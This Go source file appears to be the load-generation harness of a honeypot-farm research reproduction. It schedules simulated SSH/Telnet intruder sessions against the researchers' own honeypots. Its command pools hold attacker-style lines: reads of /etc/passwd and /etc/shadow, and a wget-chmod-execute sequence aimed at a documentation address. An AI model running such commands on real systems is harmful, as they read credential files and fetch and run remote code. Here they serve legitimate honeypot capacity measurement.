// Package loadgen is the open-loop load harness of the reproduction:
// it derives a deterministic arrival schedule from a seed — exponential
// inter-arrivals at a target rate, session scripts drawn from the
// paper's Table 1 category and protocol mix — and replays those
// sessions as real SSH/Telnet wire traffic against a running farm or
// shard fleet at a bounded concurrency.
//
// Open-loop means arrivals are scheduled by the clock, not by
// completions: a slow target does not slow the offered load down, it
// shows up as schedule slip (sessions starting late) and as a gap
// between offered and achieved rate. That is the property that makes
// the harness usable for capacity measurement — a closed loop would
// self-throttle and hide saturation.
//
// The plan is pure data and byte-reproducible: the same seed, rate,
// duration, and target list always produce the same arrivals, the same
// scripts, and the same plan digest, on any machine. Only the Driver
// (driver.go) touches the wall clock, through an injected Now/Sleep
// pair.
//
// What a session does on the wire is one function, Execute
// (execute.go): the repository's only SSH/Telnet client for the paper's
// five categories. The driver, the record replay (FromRecord) and
// cmd/attack all go through it.
package loadgen

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"math/rand"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/workload"
)

// Target is one attackable pot: its ID and bound wire addresses.
type Target struct {
	Pot        int
	SSHAddr    string
	TelnetAddr string
}

// Script is one planned session: what the wire client will do once its
// arrival fires.
type Script struct {
	// Category is the paper taxonomy class the session enacts.
	Category analysis.Category
	// SSH selects the protocol (false = Telnet).
	SSH bool
	// User/Password are the login credentials for categories that log
	// in. The honeypot accepts root with any password except "root".
	User, Password string
	// FailedAttempts is the number of doomed root/root attempts a
	// FAIL_LOG session makes before giving up.
	FailedAttempts int
	// Commands are the shell lines a CMD/CMD+URI session types.
	Commands []string

	// Client is what a caller other than the plan knows about the
	// client it wants enacted. BuildPlan leaves it nil, Digest does not
	// cover it, and nil — like the zero Client — is the plan's behaviour.
	// It is a pointer so that a plan's arrivals stay the size they were.
	Client *Client
}

// Client is the part of a session the plan has no opinion about: how the
// client identifies itself, which doomed credentials it has at hand, how
// it asks for its shell, and whether anyone reads what comes back.
type Client struct {
	// Version is the SSH identification string ("" sends
	// "SSH-2.0-loadgen").
	Version string
	// Logins are the pairs a FAIL_LOG session tries, in order, when the
	// caller has them (FromRecord does); nil means Script.FailedAttempts
	// times root/root. Success is not read.
	Logins []honeypot.LoginAttempt
	// Exec sends Commands[0] as an SSH exec request instead of typing
	// the commands into a shell; PTY asks for a terminal before the
	// shell. Telnet has neither.
	Exec, PTY bool
	// Output, when set, receives what the peer prints after login, and a
	// Telnet session then waits for a prompt before each line and for the
	// pot's hang-up after exit. Nil discards the output, and a Telnet
	// session writes every line at once and hangs up without reading.
	Output io.Writer
}

// Arrival is one scheduled session: when it starts, which target it
// hits, and what it does.
type Arrival struct {
	// At is the offset from run start.
	At time.Duration
	// Target indexes the plan's target list.
	Target int
	Script Script
}

// PlanConfig parameterizes plan derivation.
type PlanConfig struct {
	// Seed drives every random choice in the plan.
	Seed int64
	// Rate is the offered load in sessions per second. Must be > 0.
	Rate float64
	// Duration is the arrival window. Must be > 0.
	Duration time.Duration
	// Targets are the attackable pots. Must be non-empty.
	Targets []Target
}

// Plan is a derived arrival schedule.
type Plan struct {
	Seed     int64
	Rate     float64
	Duration time.Duration
	Targets  []Target
	Arrivals []Arrival
}

// mix derives an uncorrelated stream seed from the root seed with the
// same splitmix64 finalizer the workload generator uses for its shards.
func mix(seed int64, stream int) int64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(uint64(stream)+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// cmdPool is the deterministic command repertoire of CMD sessions,
// mirroring the intruder command classes of the record-level workload
// (recon, credential theft, download) without importing its private
// tables.
var cmdPool = [][]string{
	{"uname -a", "cat /proc/cpuinfo", "free -m"},
	{"cat /etc/passwd", "cat /etc/shadow"},
	{"ps aux", "ls -la /tmp", "w"},
	{"echo -e '\\x47\\x72\\x6f\\x70'", "uname -m"},
}

// uriCommands is the CMD+URI repertoire: a download attempt plus
// execution, against an unroutable documentation address (the harness
// never wants real egress).
var uriCommands = []string{
	"wget http://203.0.113.9/bins.sh",
	"chmod +x bins.sh",
	"./bins.sh",
}

// BuildPlan derives the arrival schedule. It is deterministic: equal
// configs yield byte-identical plans.
func BuildPlan(cfg PlanConfig) (*Plan, error) {
	if cfg.Rate <= 0 {
		return nil, fmt.Errorf("loadgen: Rate must be > 0 (got %g)", cfg.Rate)
	}
	if cfg.Duration <= 0 {
		return nil, fmt.Errorf("loadgen: Duration must be > 0 (got %s)", cfg.Duration)
	}
	if len(cfg.Targets) == 0 {
		return nil, fmt.Errorf("loadgen: at least one target is required")
	}
	// Separate streams per concern: adding a choice to scripts cannot
	// shift the arrival times, and vice versa.
	arrivalRng := rand.New(rand.NewSource(mix(cfg.Seed, 0)))
	scriptRng := rand.New(rand.NewSource(mix(cfg.Seed, 1)))
	targetRng := rand.New(rand.NewSource(mix(cfg.Seed, 2)))

	p := &Plan{
		Seed:     cfg.Seed,
		Rate:     cfg.Rate,
		Duration: cfg.Duration,
		Targets:  append([]Target(nil), cfg.Targets...),
	}
	// The expected arrival count is Rate·Duration; the cap leaves room
	// for Poisson overshoot while bounding the loop deterministically.
	maxArrivals := int(cfg.Rate*cfg.Duration.Seconds()*4) + 1024
	at := time.Duration(0)
	for i := 0; i < maxArrivals; i++ {
		// Exponential inter-arrival at the target rate: a Poisson
		// arrival process, the open-loop standard.
		at += time.Duration(arrivalRng.ExpFloat64() / cfg.Rate * float64(time.Second))
		if at >= cfg.Duration {
			break
		}
		p.Arrivals = append(p.Arrivals, Arrival{
			At:     at,
			Target: targetRng.Intn(len(cfg.Targets)),
			Script: buildScript(scriptRng),
		})
	}
	return p, nil
}

// buildScript draws one session script from the paper's category and
// protocol mix.
func buildScript(rng *rand.Rand) Script {
	cat := sampleCategory(rng)
	s := Script{
		Category: cat,
		SSH:      rng.Float64() < workload.SSHShare[cat],
	}
	switch cat {
	case analysis.NoCred:
		// Handshake only; no credentials.
	case analysis.FailLog:
		s.FailedAttempts = 1 + rng.Intn(3)
	default:
		s.User = "root"
		s.Password = fmt.Sprintf("pw%d", rng.Intn(10000))
		if s.Password == "root" { // unreachable, but keep the invariant local
			s.Password = "hunter2"
		}
		switch cat {
		case analysis.Cmd:
			s.Commands = cmdPool[rng.Intn(len(cmdPool))]
		case analysis.CmdURI:
			s.Commands = uriCommands
		}
	}
	return s
}

// sampleCategory draws from workload.CategoryShare.
func sampleCategory(rng *rand.Rand) analysis.Category {
	u := rng.Float64()
	acc := 0.0
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		acc += workload.CategoryShare[c]
		if u < acc {
			return c
		}
	}
	return analysis.Category(analysis.NumCategories - 1)
}

// Digest is a stable hash over every schedule-determining field of the
// plan — arrival times, target pots, scripts. Wire addresses are
// deliberately excluded: ephemeral ports change across fleet restarts,
// the offered load does not. Two runs with equal digests offered
// identical load.
func (p *Plan) Digest() string {
	h := sha256.New()
	w := func(v uint64) {
		var b [8]byte
		binary.LittleEndian.PutUint64(b[:], v)
		h.Write(b[:])
	}
	w(uint64(p.Seed))
	w(uint64(p.Rate * 1e6))
	w(uint64(p.Duration))
	for _, t := range p.Targets {
		w(uint64(t.Pot))
	}
	for _, a := range p.Arrivals {
		w(uint64(a.At))
		w(uint64(a.Target))
		w(uint64(a.Script.Category))
		if a.Script.SSH {
			w(1)
		} else {
			w(0)
		}
		h.Write([]byte(a.Script.User))
		h.Write([]byte{0})
		h.Write([]byte(a.Script.Password))
		h.Write([]byte{0})
		w(uint64(a.Script.FailedAttempts))
		for _, c := range a.Script.Commands {
			h.Write([]byte(c))
			h.Write([]byte{0})
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}
